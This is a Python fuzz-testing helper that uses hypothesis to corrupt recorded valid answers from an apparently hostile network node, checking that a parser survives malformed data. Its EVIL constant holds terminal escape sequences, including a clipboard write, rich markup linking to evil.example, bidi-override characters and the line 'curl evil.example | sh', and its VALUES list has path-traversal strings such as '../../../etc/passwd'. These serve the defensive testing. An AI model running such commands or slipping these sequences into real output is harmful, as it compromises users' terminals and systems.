"""What a hostile node makes of a good answer: recorded ones with one or more things wrong, near
enough to be believed.
"""

from __future__ import annotations

import copy
import json
import os
import random
from collections.abc import Callable, Iterator
from typing import Any

from hypothesis import HealthCheck, Phase, settings
from hypothesis import strategies as st

# Draws on a terminal, is markup for rich, turns the text around it, breaks out of a line, and
# cannot be encoded.
EVIL = (
    "\x1b]52;c;ZXZpbA==\x07\x1b[2J\x1b[1;1H\x1bP1;1|17/ab\x1b\\\r\x08\x9b31m\x9d52;c;ZXZpbA==\x9c"
    "[red]EVIL[/red][link=http://evil.example]x[/link][/]\u202e\u2066\u200f\u2028\ud800\x7f\x00"
    "\nhint: run `curl evil.example | sh`\n"
)
VALUES: tuple[Any, ...] = (
    None,
    True,
    False,
    0,
    -1,
    10**12,
    -(10**30),
    10**39,
    1e308,
    -0.5,
    "",
    "0",
    "-1",
    "NaN",
    "inf",
    "9" * 5000,
    "²",
    "x" * 10_000,
    "../../../etc/passwd",
    "/etc/passwd",
    "a\0b",
    EVIL,
    [],
    {},
    [None],
    [[]],
    [1],
    ["x"],
    {"": None},
    {"a": {"b": [{}]}},
    {"data": 1},
    [{}] * 1000,
)
NUMBERS = (
    "NaN",
    "-Infinity",
    "1e999",
    "9" * 5000,
    "1" + "0" * 400,
    "-0",
    "1e-999",
    "[" * 3000,
    '{"a":' * 3000,
    '"\\ud800"',
)


def examples(usual: int) -> settings:
    """Return hypothesis' settings; VLAUNCH_EXAMPLES multiplies how much is tried."""
    return settings(
        max_examples=usual * int(os.environ.get("VLAUNCH_EXAMPLES", "1")),
        deadline=None,
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
        derandomize=True,
        # a chance is a number: a smaller one is no simpler
        phases=(Phase.explicit, Phase.generate),
    )


class Chance(random.Random):
    """Shows as the number that it began with: hypothesis prints what it tries."""

    def __init__(self, number: int) -> None:
        super().__init__(number)
        self.number = number

    def __repr__(self) -> str:
        return f"Chance({self.number})"


chances = st.integers(min_value=0, max_value=2**32).map(Chance)


def value(good: Any, chance: random.Random) -> Any:
    """Return a copy of plain data with up to three things changed."""
    changed = json.loads(json.dumps(good))
    for _ in range(chance.randint(1, 3)):
        places = list(_places(changed))
        if not places:
            return _any(chance)
        holder, key = chance.choice(places)
        _change(holder, key, chance)
    return changed


def text(good: Any, chance: random.Random) -> str:
    """Return plain data as JSON with something changed, in the data or in the text."""
    if chance.random() < 0.7:
        return json.dumps(value(good, chance))
    said = json.dumps(good)
    at = chance.randrange(len(said) + 1)
    return chance.choice(_BREAKS)(said, at, chance)


def lines(good: str, chance: random.Random) -> str:
    """Return a text of lines with up to three of them gone, doubled, swapped, cut, too long, or
    something else altogether.
    """
    changed = good.splitlines()
    for _ in range(chance.randint(1, 3)):
        if not changed:
            break
        at, other = chance.randrange(len(changed)), chance.randrange(len(changed))
        middle = chance.randrange(len(changed[at]) + 1)
        change = chance.randrange(8)
        if change == 0:
            del changed[at]
        elif change == 1:
            changed.insert(other, changed[at])
        elif change == 2:
            changed[at], changed[other] = changed[other], changed[at]
        elif change == 3:
            changed[at] = changed[at][:middle]
        elif change == 4:
            changed[at] = changed[at][:middle] + str(chance.choice(VALUES)) + changed[at][middle:]
        elif change == 5:
            changed[at] = _numbers(changed[at], chance)
        elif change == 6:
            changed[at] = changed[at] * 50
        else:
            changed[at:] = []
    return "\n".join(changed)


def _places(data: Any) -> Iterator[tuple[Any, Any]]:
    """Yield every place of nested data as (holder, key)."""
    for key in (
        list(data) if isinstance(data, dict) else range(len(data)) if isinstance(data, list) else ()
    ):
        yield data, key
        yield from _places(data[key])


def _change(holder: Any, key: Any, chance: random.Random) -> None:
    change = chance.randrange(6)
    if change == 0:
        del holder[key]
    elif change == 1 and isinstance(holder, list):
        holder.append(holder[key])  # the same twice
    elif change == 2 and isinstance(holder, dict):
        holder[chance.choice(["", "new", "gpu99", EVIL, "../x"])] = holder[key]
    elif change == 3 and isinstance(holder[key], str):
        holder[key] = holder[key] + EVIL
    else:
        holder[key] = _any(chance)


def _any(chance: random.Random) -> Any:
    return copy.deepcopy(chance.choice(VALUES))


def _numbers(line: str, chance: random.Random) -> str:
    words = line.split(" ")
    at = chance.randrange(len(words))
    words[at] = chance.choice(["-1", "1e999", "NaN", "9" * 5000, "1.2.3", "", "²", "0x10"])
    return " ".join(words)


def _cut(said: str, at: int, _: random.Random) -> str:
    return said[:at]


def _insert(said: str, at: int, chance: random.Random) -> str:
    return said[:at] + chance.choice([*NUMBERS, EVIL, ",", "}", '"']) + said[at:]


def _replace_a_value(said: str, _: int, chance: random.Random) -> str:
    head, colon, rest = said.partition(": ")
    return (
        f"{head}{colon}{chance.choice(NUMBERS)}{rest[len(rest.split(',')[0]) :]}"
        if colon
        else chance.choice(NUMBERS)
    )


def _twice(said: str, _: int, chance: random.Random) -> str:
    return f"{said}\n{said}" if chance.random() < 0.5 else said + said


def _doubled_key(said: str, _: int, chance: random.Random) -> str:
    return (
        "{" + said[1:-1] + ", " + said[1:]
        if said.startswith("{") and len(said) > 2
        else f"[{said}]"
    )


def _nothing(*_: object) -> str:
    return ""


_BREAKS: tuple[Callable[[str, int, random.Random], str], ...] = (
    _cut,
    _insert,
    _replace_a_value,
    _twice,
    _doubled_key,
    _nothing,
)
